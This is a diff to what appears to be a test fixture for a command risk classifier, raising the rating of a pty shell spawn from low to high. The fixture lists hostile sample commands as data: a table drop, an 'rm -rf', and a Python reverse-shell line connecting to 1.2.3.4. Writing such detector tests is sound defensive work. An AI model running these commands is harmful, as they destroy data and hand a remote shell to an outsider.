@@ -49,7 +49,7 @@ PYTHON = [
     ("high", 'import sqlite3; sqlite3.connect("a.db").execute("drop table x")', ()),
     ("low", 'import sqlite3; print(sqlite3.connect("a.db").execute("select 1").fetchall())', ()),
     ("low", 'import os; os.execvp("rm",["rm","-rf","x"])', ("rm -rf x",)),
-    ("low", 'import pty; pty.spawn("/bin/sh")', ("/bin/sh",)),
+    ("high", 'import pty; pty.spawn("/bin/sh")', ("/bin/sh",)),
     (
         "high",
         'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",1));os.dup2(s.fileno(),0)',
